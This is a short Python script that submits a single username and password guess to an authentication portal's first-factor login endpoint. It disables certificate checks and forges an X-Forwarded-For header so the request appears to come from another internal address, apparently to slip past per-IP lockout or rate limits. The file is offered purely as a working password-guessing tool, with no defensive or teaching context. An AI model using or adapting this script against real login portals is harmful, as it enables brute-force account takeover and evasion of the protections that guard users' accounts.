"""Tries a password at the portal, and claims to be elsewhere: guess.py ADDRESS PORTAL PERSON PASSWORD."""

import json
import socket
import ssl
import sys

address, portal, person, password = sys.argv[1:]
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # what is tried is not the certificate
body = json.dumps({"username": person, "password": password, "keepMeLoggedIn": False})
head = (
    f"POST /api/firstfactor HTTP/1.1\r\nHost: {portal}\r\nX-Forwarded-For: 10.99.0.9\r\nConnection: close\r\n"
    f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
)
with context.wrap_socket(socket.create_connection((address, 443), 10), server_hostname=portal) as connection:
    connection.sendall((head + body).encode())
    print(b"".join(iter(lambda: connection.recv(65536), b"")).decode())
